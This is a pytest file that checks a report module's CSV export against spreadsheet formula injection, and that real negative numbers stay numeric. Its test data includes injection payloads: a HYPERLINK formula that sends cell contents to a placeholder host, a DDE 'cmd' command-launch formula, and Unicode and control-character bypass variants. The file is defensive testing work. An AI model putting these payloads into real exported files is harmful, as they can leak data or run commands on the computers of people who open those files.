"""No name becomes a formula when a list is opened in a spreadsheet (OWASP, "CSV Injection")."""

import csv
import io

import pytest

from appliance.reports.render import tables_csv
from appliance.reports.tables import Table

FORMULAE = (
    '=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "=cmd|' /C calc'!A0", '"=1+1', "'=1+1", "1\r\n=1+1",
)  # fmt: skip


@pytest.mark.parametrize("name", FORMULAE)
def test_a_name_that_begins_like_a_formula_is_text_wherever_it_stands(name: str) -> None:
    table = Table(title=name, headings=(name, "plain"), rows=((name, 7), ("plain", name)))
    text = tables_csv([table]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [len(row) for row in rows] == [1, 2, 2, 2], "no cell breaks out of its row"
    strange = [rows[0][0], rows[1][0], rows[2][0], rows[3][1]]
    assert len(set(strange)) == 1
    assert strange[0].removeprefix("'") == name.removeprefix("'")
    assert not strange[0].startswith(tuple("=+-@\t\r\n＝＋－＠"))


def test_a_number_of_ours_stays_a_number() -> None:
    """A difference of -3 is no formula: people add these up."""
    table = Table(title="t", headings=("a",), rows=((-3,), (-0.5,), (None,)))
    assert tables_csv([table]).decode("utf-8-sig").split("\r\n")[2:5] == ["-3", "-0.50", "–"]
